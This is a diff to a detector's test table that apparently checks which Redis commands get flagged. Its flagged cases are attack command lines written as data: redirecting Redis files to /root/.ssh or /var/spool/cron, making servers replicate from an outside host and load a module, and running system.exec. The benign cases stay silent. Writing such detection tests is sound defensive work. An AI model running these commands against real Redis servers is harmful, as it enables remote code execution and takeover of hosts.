@@ -18,10 +18,18 @@ indicatorTable(commandRedisFile, {
     ),
     'over a plain connection': script(`printf 'CONFIG SET dir /root/.ssh\\r\\n' | nc -w 2 192.0.2.9 6379`),
     'two settings in one': script('redis-cli config set dbfilename root dir /var/spool/cron'),
+    'a server outside that it follows, on the input': script(
+      'for h in 10.0.0.1 10.0.0.2; do printf "SLAVEOF 203.0.113.7 6379\\nMODULE LOAD ./m.so\\n" | redis-cli -h $h; done',
+    ),
+    'a module that runs programs': runs('redis-cli', '-h', 'cache', 'system.exec', 'id'),
     'a server outside that it follows': script('redis-cli -h sessions.web.svc replicaof 203.0.113.7 6379'),
   },
   staysSilent: {
     'a server of the cluster that it follows': script('redis-cli -h redis-1 replicaof redis-0.redis 6379'),
+    'a server of the cluster that it follows, on the input': script(
+      'printf "REPLICAOF 10.0.0.7 6379\\n" | redis-cli -h redis-1',
+    ),
+    'a module of a search': runs('redis-cli', 'MODULE', 'LOAD', '/usr/lib/redis/modules/redisearch.so'),
     'a copy that is ended': script('redis-cli -h redis-1 replicaof no one'),
     'the place where data lies': runs('redis-cli', 'config', 'set', 'dir', '/data'),
     'a limit of memory': script('redis-cli -h redis config set maxmemory 2gb'),
